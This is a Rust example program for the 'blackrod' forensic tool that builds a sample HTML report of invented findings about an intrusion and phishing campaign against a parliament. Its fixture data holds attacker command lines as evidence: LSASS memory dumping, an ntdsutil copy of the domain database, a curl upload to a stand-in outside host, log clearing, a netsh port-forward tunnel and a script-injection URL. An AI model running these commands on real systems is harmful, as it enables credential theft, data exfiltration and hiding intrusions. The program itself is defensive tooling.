//! A report of invented findings, to look at: `cargo run -p blackrod-report --example sample --
//! OUT.html [FURTHER_FINDINGS]`. The further findings (0 unless told) are noise of many rules and
//! hosts, to see how a large case opens. Also prints the summary for the terminal.

use std::io::{self, Write as _};
use std::time::Instant;

use blackrod_model::assessment::{Noted, Remark};
use blackrod_model::estate::Organisation;
use blackrod_model::mail::MailCampaign;
use blackrod_model::{
    Campaign, CampaignId, Class, CommandShape, Entity, EntityKind, Evidence, EvidenceId, EvidenceState,
    Finding, FindingId, FindingTotal, NewShape, Plan, Position, Reason, RefusalGroup, RuleProblem, RuleSet,
    Run, Severity, Sha256, Target, Tie, Timestamp, UsualShape,
};
use blackrod_report::{CaseView, Explanation};

fn main() -> io::Result<()> {
    let mut arguments = std::env::args().skip(1);
    let path = arguments.next().unwrap_or_else(|| "sample.html".to_owned());
    let further = arguments.next().and_then(|text| text.parse().ok()).unwrap_or(0);

    let case = Case::invent(further);
    let view = case.view(&path);
    let started = Instant::now();
    let mut file = io::BufWriter::new(std::fs::File::create(&path)?);
    blackrod_report::html(&view, &mut file)?;
    file.flush()?;
    let seconds = started.elapsed().as_secs_f64();

    print!("{}", blackrod_report::summary_text(&view));
    let bytes = std::fs::metadata(&path)?.len();
    println!(
        "({} findings written as {bytes} bytes in {seconds:.2} s)",
        case.findings.len()
    );
    Ok(())
}

struct Case {
    organisations: Vec<Organisation>,
    runs: Vec<Run>,
    evidence: Vec<Evidence>,
    refusals: Vec<RefusalGroup>,
    findings: Vec<Finding>,
    totals: Vec<FindingTotal>,
    campaigns: Vec<Campaign>,
    mail_campaigns: Vec<MailCampaign>,
    new_shapes: Vec<NewShape>,
    plan: Plan,
    remarks: Vec<Noted>,
    rule_sets: Vec<RuleSet>,
    coverage: blackrod_model::Coverage,
}

/// Title, minute, severity, technique, rule, evidence, host, command line.
type Step<'a> = (
    &'a str,
    i64,
    Severity,
    &'a str,
    &'a str,
    EvidenceId,
    &'a str,
    &'a str,
);

const EXPLANATION: &str = "# What it finds\n\nEvents that match a Sigma rule for their log source.\n\n\
    # Why it matters\n\nSigma rules hold what many defenders learned about how intruders work on hosts:\n\n\
    - reading credentials out of memory\n- moving from one host to the next\n- staying after a restart\n\n\
    # What it misses\n\nWhat no log recorded, and what no rule describes.\n\n\
    # References\n\nSigma specification 2.0.";

impl Case {
    fn invent(further: u64) -> Self {
        let mut case = Self {
            organisations: ["The National Assembly", "The Electoral Commission"]
                .map(|name| Organisation {
                    name: name.to_owned(),
                    ..Default::default()
                })
                .to_vec(),
            runs: vec![Run {
                version: "0.1.0".to_owned(),
                arguments: [
                    "blackrod",
                    "investigate",
                    "seized/",
                    "--estate",
                    "estate.toml",
                    "--case",
                    "cases/2021 January",
                ]
                .map(str::to_owned)
                .to_vec(),
                started: time("2021-01-25T08:12:03Z"),
                ended: time("2021-01-25T08:13:41Z"),
                rules: Sha256::of(b"rules"),
                estate: Sha256::of(b"estate"),
            }],
            evidence: vec![
                item(
                    "seized/ws-014.zip",
                    "zip",
                    EvidenceState::Opened,
                    0,
                    0,
                    81_204_112,
                ),
                item(
                    "seized/ws-014.zip!Windows/System32/winevt/Logs/Security.evtx",
                    "evtx",
                    EvidenceState::Read,
                    301_221,
                    0,
                    209_715_200,
                ),
                item(
                    "seized/ws-014.zip!Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
                    "evtx",
                    EvidenceState::Partial,
                    88_120,
                    14,
                    67_112_960,
                ),
                item(
                    "seized/dc-1/Security.evtx",
                    "evtx",
                    EvidenceState::Read,
                    810_344,
                    0,
                    524_288_000,
                ),
                item(
                    "mail/anna.berg.mbox",
                    "mbox",
                    EvidenceState::Read,
                    4_812,
                    1,
                    93_120_004,
                ),
                item("notes/handover.xyz", "", EvidenceState::Unknown, 0, 0, 2_113),
                item("phone/backup.7z", "", EvidenceState::Failed, 0, 0, 512),
            ],
            refusals: Vec::new(),
            findings: Vec::new(),
            totals: Vec::new(),
            campaigns: Vec::new(),
            mail_campaigns: Vec::new(),
            new_shapes: new_shapes(),
            plan: Plan::default(),
            remarks: vec![usual()],
            coverage: blackrod_model::Coverage::default(),
            rule_sets: vec![
                RuleSet {
                    method: "sigma".to_owned(),
                    loaded: 2_412,
                    digest: Sha256::of(b"sigma"),
                    refused: vec![problem(
                        "rules/extra/broken.yml",
                        "",
                        "line 14: `condition` names a selection `sel2` that does not exist",
                    )],
                    idle: (0..40)
                        .map(|number| {
                            problem(
                                &format!("b2a9{number:04}"),
                                &format!("Suspicious DNS query {number}"),
                                "no log of product windows, service dns-server in the evidence",
                            )
                        })
                        .collect(),
                },
                RuleSet {
                    method: "indicators".to_owned(),
                    loaded: 1_204_118,
                    digest: Sha256::of(b"indicators"),
                    refused: Vec::new(),
                    idle: Vec::new(),
                },
            ],
        };
        case.refusals = vec![
            refusal(
                case.evidence[2].id,
                "the chunk's checksum does not hold and its records could not be recovered",
                14,
                2,
            ),
            refusal(
                case.evidence[4].id,
                "the message's MIME structure is nested deeper than 100 parts",
                1,
                1,
            ),
            refusal(case.evidence[6].id, "the archive is encrypted", 0, 1),
        ];
        case.add_intrusion();
        case.add_phishing();
        case.add_noise(further);
        case.totals = FindingTotal::of(&case.findings);
        case
    }

    fn view<'a>(&'a self, report: &'a str) -> CaseView<'a> {
        CaseView {
            title: "Intrusion into the National Assembly’s workstations, January 2021",
            case: "cases/2021 January",
            report,
            estate: "Parliamentary estate",
            organisations: &self.organisations,
            generated: time("2021-01-25T08:13:41Z"),
            runs: &self.runs,
            evidence: &self.evidence,
            refusals: &self.refusals,
            findings: &self.findings,
            totals: &self.totals,
            campaigns: &self.campaigns,
            assessments: &[],
            remarks: &self.remarks,
            plan: &self.plan,
            mail_campaigns: &self.mail_campaigns,
            floods: &[],
            new_shapes: &self.new_shapes,
            rule_sets: &self.rule_sets,
            coverage: &self.coverage,
            explanations: &[Explanation {
                code: "SIG",
                text: EXPLANATION,
            }],
            log_head: Some(Sha256::of(b"log")),
        }
    }

    fn add_intrusion(&mut self) {
        let security = self.evidence[1].id;
        let directory = self.evidence[3].id;
        let steps: [Step<'_>; 12] = [
            (
                "Macro document starts a script host",
                0,
                Severity::High,
                "T1204.002",
                "wscript",
                security,
                "ws-014",
                "\"C:\\Windows\\System32\\wscript.exe\" C:\\Users\\a.berg\\AppData\\Local\\Temp\\invoice\u{202e}fdp.js",
            ),
            (
                "Encoded PowerShell command",
                1,
                Severity::Medium,
                "T1059.001",
                "encoded",
                security,
                "ws-014",
                "powershell -nop -w hidden -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
            ),
            (
                "Scheduled task created from a user folder",
                4,
                Severity::Medium,
                "T1053.005",
                "schtasks",
                security,
                "ws-014",
                "schtasks /create /tn Updater /tr C:\\Users\\Public\\svchost.exe /sc minute /mo 30",
            ),
            (
                "System program's name in a user folder",
                4,
                Severity::High,
                "T1036.005",
                "masquerade",
                security,
                "ws-014",
                "C:\\Users\\Public\\svchost.exe -k netsvcs",
            ),
            (
                "Discovery of domain administrators",
                9,
                Severity::Low,
                "T1069.002",
                "netgroup",
                security,
                "ws-014",
                "net group \"Domain Admins\" /domain",
            ),
            (
                "Memory of LSASS read",
                14,
                Severity::Critical,
                "T1003.001",
                "lsass",
                security,
                "ws-014",
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.dmp full",
            ),
            (
                "Remote service installed",
                32,
                Severity::High,
                "T1021.002",
                "psexec",
                directory,
                "dc-1",
                "%SystemRoot%\\PSEXESVC.exe",
            ),
            (
                "Copy of the directory database",
                41,
                Severity::Critical,
                "T1003.003",
                "ntds",
                directory,
                "dc-1",
                "ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\x\" q q",
            ),
            (
                "Archive made for staging",
                55,
                Severity::Medium,
                "T1560.001",
                "rar",
                directory,
                "dc-1",
                "rar.exe a -hp -m5 C:\\Windows\\Temp\\x.rar C:\\Windows\\Temp\\x",
            ),
            (
                "Upload to an outside host",
                63,
                Severity::High,
                "T1041",
                "upload",
                directory,
                "dc-1",
                "curl -T C:\\Windows\\Temp\\x.rar https://files.parliament-login.example.net/u",
            ),
            (
                "Security log cleared",
                71,
                Severity::High,
                "T1070.001",
                "cleared",
                directory,
                "dc-1",
                "wevtutil cl Security",
            ),
            (
                "Security log cleared",
                72,
                Severity::High,
                "T1070.001",
                "cleared",
                security,
                "ws-014",
                "wevtutil cl Security",
            ),
        ];
        let start = self.findings.len();
        for (number, (title, minute, severity, technique, rule, evidence, host, command)) in
            (4_120_u64..).zip(steps)
        {
            self.findings.push(Finding {
                id: FindingId::new(
                    "SIG",
                    rule,
                    evidence,
                    Position {
                        offset: 0,
                        record: number,
                    },
                    "",
                ),
                code: "SIG".to_owned(),
                rule_id: format!("7a1e{number}-4c0d-4e39-9d8e-{rule}"),
                title: title.to_owned(),
                severity,
                time: Timestamp::from_seconds(1_611_307_800 + minute * 60),
                evidence,
                at: Position {
                    offset: number * 4_096,
                    record: number,
                },
                class: Class::PROCESS_ACTIVITY.0,
                attack: vec![technique.to_owned()],
                reasons: vec![
                    Reason::new("CommandLine", command),
                    Reason::new("User", "ASSEMBLY\\a.berg"),
                ],
                entities: entities(&[
                    (EntityKind::Host, host),
                    (EntityKind::Account, "a.berg"),
                    (EntityKind::Ip, "203.0.113.77"),
                ]),
            });
        }
        let targets = [
            ("ws-014", EntityKind::Host, None, 7),
            ("dc-1", EntityKind::Host, None, 5),
            ("a.berg", EntityKind::Account, Some("Anna Berg"), 12),
        ];
        self.add_campaign(
            start,
            "Credential access and lateral movement on WS-014 and DC-1, 22 January 2021",
            214.0,
            &targets,
            &[
                ("203.0.113.77", EntityKind::Ip, 12, 17.3),
                ("a.berg", EntityKind::Account, 12, 6.9),
                ("ws-014", EntityKind::Host, 7, 6.9),
                ("dc-1", EntityKind::Host, 5, 4.1),
            ],
        );
    }

    fn add_phishing(&mut self) {
        let mailbox = self.evidence[4].id;
        let start = self.findings.len();
        for number in 0..9_u64 {
            self.findings.push(Finding {
                id: FindingId::new(
                    "MAIL",
                    "lookalike",
                    mailbox,
                    Position {
                        offset: 0,
                        record: number,
                    },
                    "",
                ),
                code: "IOC".to_owned(),
                rule_id: "domain parliament-login.example.net".to_owned(),
                title: "Message with a listed domain".to_owned(),
                severity: if number == 3 {
                    Severity::High
                } else {
                    Severity::Medium
                },
                time: Timestamp::from_seconds(1_610_900_000 + (number * number * 5_400) as i64),
                evidence: mailbox,
                at: Position {
                    offset: number * 20_480,
                    record: number + 1,
                },
                class: Class::EMAIL_ACTIVITY.0,
                attack: vec!["T1566.002".to_owned()],
                reasons: vec![
                    Reason::new(
                        "email.from",
                        "Clerk’s Office <clerk@parliament-login.example.net>",
                    ),
                    Reason::new(
                        "url",
                        "https://parliament-login.example.net/s/9f?u=<script>alert(1)</script>",
                    ),
                ],
                entities: entities(&[
                    (EntityKind::Domain, "parliament-login.example.net"),
                    (EntityKind::Address, "anna.berg@assembly.example"),
                ]),
            });
        }
        let targets = [
            (
                "anna.berg@assembly.example",
                EntityKind::Address,
                Some("Anna Berg"),
                6,
            ),
            (
                "carl.dahl@assembly.example",
                EntityKind::Address,
                Some("Carl Dahl"),
                3,
            ),
        ];
        self.add_campaign(
            start,
            "Initial access against Anna Berg and Carl Dahl, 17–22 January 2021",
            31.0,
            &targets,
            &[("parliament-login.example.net", EntityKind::Domain, 9, 20.7)],
        );
    }

    fn add_campaign(
        &mut self,
        start: usize,
        title: &str,
        score: f64,
        targets: &[(&str, EntityKind, Option<&str>, usize)],
        ties: &[(&str, EntityKind, usize, f64)],
    ) {
        let members = &self.findings[start..];
        let mut attack: Vec<String> = members
            .iter()
            .flat_map(|finding| finding.attack.clone())
            .collect();
        attack.sort_unstable();
        attack.dedup();
        let entity = |value: &str, kind| Entity {
            kind,
            value: value.to_owned(),
        };
        self.campaigns.push(Campaign {
            id: CampaignId::from_first(members[0].id),
            title: title.to_owned(),
            score,
            first_seen: members[0].time,
            last_seen: members[members.len() - 1].time,
            findings: members.iter().map(|finding| finding.id).collect(),
            targets: targets
                .iter()
                .map(|&(value, kind, person, findings)| Target {
                    entity: entity(value, kind),
                    person: person.map(str::to_owned),
                    findings,
                })
                .collect(),
            ties: ties
                .iter()
                .map(|&(value, kind, findings, weight)| Tie {
                    entity: entity(value, kind),
                    findings,
                    weight,
                })
                .collect(),
            attack,
        });
    }

    fn add_noise(&mut self, count: u64) {
        if count == 0 {
            return;
        }
        for number in 0..count.div_ceil(100) {
            self.evidence.push(item(
                &format!("bulk/host-{number}/Security.evtx"),
                "evtx",
                EvidenceState::Read,
                5_000 + number,
                0,
                1 << 20,
            ));
        }
        let first_bulk = self.evidence.len() - count.div_ceil(100) as usize;
        for number in 0..count {
            let rule = number * 7 % 350;
            let evidence = self.evidence[first_bulk + (number / 100) as usize].id;
            self.findings.push(Finding {
                id: FindingId::new(
                    "SIG",
                    &rule.to_string(),
                    evidence,
                    Position {
                        offset: 0,
                        record: number,
                    },
                    "",
                ),
                code: "SIG".to_owned(),
                rule_id: format!("00000000-0000-4000-8000-{rule:012}"),
                title: format!("Uncommon program number {rule}"),
                severity: Severity::ALL[(rule % 4) as usize],
                time: Timestamp::from_seconds(1_609_459_200 + (number * 37 % 2_000_000) as i64),
                evidence,
                at: Position {
                    offset: number * 1_024,
                    record: number,
                },
                class: Class::PROCESS_ACTIVITY.0,
                attack: vec![format!("T10{:02}", rule % 80 + 3)],
                reasons: vec![
                    Reason::new(
                        "Image",
                        &format!("C:\\Program Files\\Tool {}\\tool{number}.exe", number % 97),
                    ),
                    Reason::new(
                        "CommandLine",
                        &format!(
                            "tool{number}.exe --session {:x} --output C:\\Users\\user{}\\out",
                            number * 2_654_435_761,
                            number % 3_000
                        ),
                    ),
                ],
                entities: entities(&[
                    (EntityKind::Host, &format!("host-{}", number / 100)),
                    (EntityKind::Account, &format!("user{}", number % 3_000)),
                ]),
            });
        }
    }
}

fn item(path: &str, format: &str, state: EvidenceState, read: u64, refused: u64, size: u64) -> Evidence {
    let sha256 = Sha256::of(path.as_bytes());
    Evidence {
        id: EvidenceId::new(&sha256, path),
        path: path.to_owned(),
        sha256,
        size,
        format: format.to_owned(),
        records_read: read,
        records_refused: refused,
        state,
    }
}

fn refusal(evidence: EvidenceId, reason: &str, records: u64, places: u64) -> RefusalGroup {
    RefusalGroup {
        evidence,
        reason: reason.to_owned(),
        places,
        records,
        examples: (0..places)
            .map(|number| Position {
                offset: 65_536 * (number + 3),
                record: 0,
            })
            .collect(),
    }
}

fn problem(rule: &str, title: &str, reason: &str) -> RuleProblem {
    RuleProblem {
        rule: rule.to_owned(),
        title: title.to_owned(),
        reason: reason.to_owned(),
    }
}

fn entities(named: &[(EntityKind, &str)]) -> Vec<Entity> {
    named
        .iter()
        .filter_map(|(kind, value)| Entity::new(*kind, value))
        .collect()
}

fn time(text: &str) -> Timestamp {
    Timestamp::parse(text).unwrap_or(Timestamp::UNKNOWN)
}

/// Commands that are new in the week of the break-in, one of them work.
fn new_shapes() -> Vec<NewShape> {
    let new = |command: &str, first: &str, times, hosts: &[&str], account: &str, score, can: &[&str]| {
        let owned = |texts: &[&str]| texts.iter().map(|&text| text.to_owned()).collect();
        NewShape {
            shape: CommandShape {
                image: command.split(' ').next().unwrap_or_default().to_owned(),
                skeleton: command.to_owned(),
            },
            command: command.to_owned(),
            first: time(first),
            times,
            hosts: owned(hosts),
            accounts: vec![account.to_owned()],
            score,
            can: owned(can),
        }
    };
    vec![
        new(
            r#"ntdsutil "ac i ntds" ifm "create full c:\windows\temp\x" q q"#,
            "2021-01-22T02:14:00Z",
            1,
            &["dc-1"],
            "svc_backup",
            9.8,
            &["credentials", "dump"],
        ),
        new(
            "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
            "2021-01-22T02:31:00Z",
            2,
            &["dc-1", "ws-14"],
            "svc_backup",
            7.1,
            &["tunnel"],
        ),
        new(
            r"msiexec /i \\srv03\deploy\readersetup.msi /qn",
            "2021-01-20T09:02:11Z",
            214,
            &[
                "ws-01", "ws-02", "ws-03", "ws-04", "ws-05", "ws-06", "ws-07", "ws-08",
            ],
            "svc_deploy",
            1.9,
            &["execute"],
        ),
    ]
}

/// What somebody said is usual.
fn usual() -> Noted {
    Noted {
        id: 1,
        at: time("2021-01-25T08:00:00Z"),
        by: "Ines Okafor".to_owned(),
        remark: Remark::Usual {
            usual: UsualShape {
                shape: CommandShape::default(),
                accounts: vec!["svc_backup".to_owned()],
            },
            command: r"wbadmin start backup -backuptarget:\\srv03\backup -include:c: -quiet".to_owned(),
            reason: "The nightly backup; moved to this server on 18 January, change 4411.".to_owned(),
        },
    }
}
